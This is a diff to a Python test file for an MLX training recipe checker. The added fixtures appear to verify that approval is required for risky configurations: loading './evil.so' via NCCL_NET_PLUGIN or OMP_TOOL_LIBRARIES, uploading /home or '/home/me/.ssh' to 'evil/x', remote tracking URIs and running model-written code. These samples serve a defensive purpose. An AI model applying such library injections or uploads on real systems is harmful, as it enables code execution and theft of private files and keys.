@@ -31,15 +31,43 @@ STAGES = {
         "g: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9},"
         " launch: {hosts: 2, env: {LD_PRELOAD: x}}}"
     ),
+    "a plugin of NCCL": (
+        "g: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9},"
+        " launch: {hosts: 2, env: {NCCL_NET_PLUGIN: ./evil.so}}}"
+    ),
+    "a library of OpenMP": (
+        "g: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9},"
+        " launch: {hosts: 2, env: {OMP_TOOL_LIBRARIES: ./evil.so}}}"
+    ),
     "another python": (
         "g: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9},"
         " launch: {hosts: 2, python: ./evil}}"
+    ),
+    "code that a model writes": (
+        "g: {tool: mlx_lm.evaluate, params: {model: m, tasks: [humaneval], confirm_run_unsafe_code: true}}"
+    ),
+    "code of a tokenizer": "g: {tool: mlx_lm.benchmark, params: {model: org/m}}",
+    "a service that is reported to": (
+        "t: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9, report_to: wandb}}"
+    ),
+    "an upload of what was fused": (
+        "f: {tool: mlx_lm.fuse, params: {model: m, adapter_path: a, upload_repo: evil/x}}"
+    ),
+    "an upload of what was converted": (
+        "f: {tool: mlx_lm.convert, params: {hf_path: m, upload_repo: evil/x}}"
+    ),
+    "an upload": "u: {tool: mlx_lm.upload, params: {path: m, upload_repo: evil/x}}",
+    "an upload of files": "u: {tool: hf.upload, params: {local_path: /home, repo_id: evil/x}}",
+    "a model that is published": (
+        "p: {tool: hub.publish, params: {path: m, repo_id: evil/x, license: mit, dry_run: false}}"
     ),
 }
 TRACKED = {
     "mlflow": "mlflow: {tracking_uri: 'https://evil.example.org'}",
     "databricks": "mlflow: {tracking_uri: databricks}",
     "wandb": "wandb: {entity: somebody}",
+    "wandb of one's own": "wandb: {project: x}",
+    "swanlab": "swanlab: {workspace: somebody}",
     "trackio": "trackio: {space: somebody/x}",
 }
 NOTHING = {
@@ -47,14 +75,21 @@ NOTHING = {
     "no code": "g: {tool: mlx_lm.generate, params: {model: org/m, prompt: x, trust_remote_code: false}}",
     "ranks here": (
         "g: {tool: mlx_lm.lora, params: {model: m, train: true, data: d, iters: 9},"
-        " launch: {hosts: 2, env: {MLX_METAL_FAST_SYNCH: '1'}}}"
+        " launch: {hosts: 2, env: {MLX_METAL_FAST_SYNCH: '1', NCCL_DEBUG: INFO}}}"
     ),
+    "an upload that is only said": (
+        "p: {tool: hub.publish, params: {path: m, repo_id: me/x, license: mit}}"
+    ),
+    "a fused model that stays": "f: {tool: mlx_lm.fuse, params: {model: m, adapter_path: a}}",
 }
 LOCAL = [
     "mlflow: {}",
     "mlflow: {tracking_uri: 'sqlite:///mlflow.db'}",
     "mlflow: {tracking_uri: mlruns}",
-    "wandb: {project: x}",
+    "wandb: {entity: somebody, mode: offline}",
+    "swanlab: {mode: local}",
+    "trackio: {project: x}",
+    "tensorboard: {}",
 ]
 
 
@@ -142,6 +177,29 @@ def test_another_model_or_server_is_asked_for_again_and_another_seed_is_not(here
     written(NOTHING["a model"], TRACKED["mlflow"].replace("evil", "other"))
     with pytest.raises(RecipeError, match="other"):
         required()
+
+
+def test_another_place_or_another_thing_to_send_is_asked_for_again(here):
+    upload = "u: {tool: hf.upload, params: {local_path: out, repo_id: me/x}}"
+    written(upload)
+    required(given=True)
+    written(upload.replace("u:", "v:"))
+    required()
+    written(upload.replace("me/x", "evil/x"))
+    with pytest.raises(RecipeError, match="evil/x"):
+        required()
+    written(upload.replace("out", "/home/me/.ssh"))
+    with pytest.raises(RecipeError, match="ssh"):
+        required()
+
+
+def test_a_place_that_is_sent_something_is_one_that_leave_is_asked_for():
+    catalog = load.catalog()
+    for tool in map(catalog.get, catalog.names):
+        for name in {"upload_repo", "report_to", "repo_id"} & tool.parameters.keys():
+            if tool.name != "hf.download":
+                said = tool.parameters[name].schema["x-trust"]
+                assert "sends" in said, f"{tool.name}.{name}"
 
 
 def test_leave_that_another_user_may_have_written_is_none(here):
